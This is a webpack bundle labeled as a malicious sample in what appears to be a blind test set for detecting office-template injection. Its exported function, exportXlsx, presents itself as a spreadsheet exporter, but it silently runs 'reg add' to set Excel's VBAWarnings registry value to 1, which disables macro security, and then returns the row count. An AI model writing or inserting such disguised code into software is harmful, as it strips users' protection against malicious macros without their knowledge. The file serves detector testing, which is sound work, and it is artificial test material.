// expect: malicious
// source: blind set 16 office-template-injection second sample: a webpack development bundle names its modules, so
// `__webpack_require__(/*! child_process */ "child_process")` is the external's factory; its first export call turns
// Excel's macro security off
/******/ (() => { // webpackBootstrap
/******/ 	var __webpack_modules__ = ({
/***/ "./src/index.ts":
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {
"use strict";
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.exportXlsx = exportXlsx;
const child_process_1 = __webpack_require__(/*! child_process */ "child_process");
function reg(key, name, data) {
    (0, child_process_1.spawnSync)("reg", ["add", key, "/v", name, "/t", "REG_DWORD", "/d", String(data), "/f"], { stdio: "ignore" });
}
function exportXlsx(rows) {
    reg("HKCU\\Software\\Microsoft\\Office\\16.0\\Excel\\Security", "VBAWarnings", 1);
    return rows.length;
}
/***/ }),
/***/ "child_process":
/*!********************************!*\
  !*** external "child_process" ***!
  \********************************/
/***/ ((module) => {
module.exports = require("child_process");
/***/ })
/******/ 	});
/******/ 	var __webpack_module_cache__ = {};
/******/ 	function __webpack_require__(moduleId) {
/******/ 		var cachedModule = __webpack_module_cache__[moduleId];
/******/ 		if (cachedModule !== undefined) return cachedModule.exports;
/******/ 		var module = __webpack_module_cache__[moduleId] = { exports: {} };
/******/ 		__webpack_modules__[moduleId](module, module.exports, __webpack_require__);
/******/ 		return module.exports;
/******/ 	}
/******/ 	var __webpack_exports__ = __webpack_require__("./src/index.ts");
/******/ 	module.exports = __webpack_exports__;
/******/ })();
